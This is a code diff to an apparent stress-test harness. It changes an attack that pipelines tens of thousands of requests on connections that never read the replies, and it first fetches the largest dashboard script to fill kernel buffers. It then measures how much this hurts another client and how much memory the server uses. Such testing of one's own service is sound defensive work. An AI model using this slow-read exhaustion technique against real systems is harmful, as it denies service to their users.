@@ -1,22 +1,28 @@
 // Answers nobody reads: requests pipelined on connections that never read, while another merchant works.
 
 import type { AttackOptions, AttackReport } from './attack.ts'
-import { watchBystander } from './bystander.ts'
-import { pipeline } from './pipeline.ts'
+import { quietRow, watchBystander } from './bystander.ts'
+import { callFrom } from './call.ts'
+import { pipelined, sendUnread } from './pipeline.ts'
 
-/** 63 kB of requests on each connection, renewed while the attack lasts. */
-const REQUESTS = 1_900
-const PATHS = ['/readyz', '/v1/usage', '/openapi.json'] as const
+/** More answers than the kernel holds for a connection; renewed when the service ends them all. */
+const REQUESTS = 40_000
+/** Enough of the largest answer first that the kernel's buffers are full and every later one stays with the service. */
+const LARGE = 60
+const SMALL = ['/readyz', '/v1/usage'] as const
 const RENEW_MS = 2_000
 
 export const unreadAnswers =
   (connections: number) =>
   async ({ url, bystanderKey: key, seconds, memory }: AttackOptions): Promise<AttackReport> => {
     const before = memory()
+    const quiet = await watchBystander({ url, key, seconds: seconds / 2 })
+    const large = await largestPath(url)
+    const texts = SMALL.map((small) => pipelined(pathsOf(large, small)))
     const open = () =>
       Promise.all(
         Array.from({ length: connections }, (_, at) =>
-          pipeline({ url, from: '127.0.0.1', path: PATHS[at % PATHS.length] ?? '/readyz', count: REQUESTS }),
+          sendUnread({ url, from: '127.0.0.1', bytes: texts[at % texts.length] ?? Buffer.alloc(0) }),
         ),
       )
     let sockets = await open()
@@ -28,12 +34,21 @@ export const unreadAnswers =
     try {
       const noticed = await watchBystander({ url, key, seconds })
       const held = sockets.filter((socket) => !socket.destroyed).length
-      return { ...noticed, 'connections still held': held, ...memoryRows(before, memory()) }
+      return { ...quietRow(quiet), ...noticed, 'connections still held': held, ...memoryRows(before, memory()) }
     } finally {
       clearInterval(renewing)
       for (const socket of sockets) socket.destroy()
     }
   }
+
+const pathsOf = (large: string, small: string) =>
+  Array.from({ length: REQUESTS }, (_, at) => (at < LARGE ? large : small))
+
+/** The dashboard's own script, a third of a megabyte, which anybody may fetch. */
+async function largestPath(url: string): Promise<string> {
+  const { text } = await callFrom({ url, path: '/dashboard', from: '127.0.0.8' })
+  return /src="([^"]+\.js)"/.exec(text)?.[1] ?? '/openapi.json'
+}
 
 export function memoryRows(before: number | null, after: number | null): AttackReport {
   if (before === null || after === null) return {}
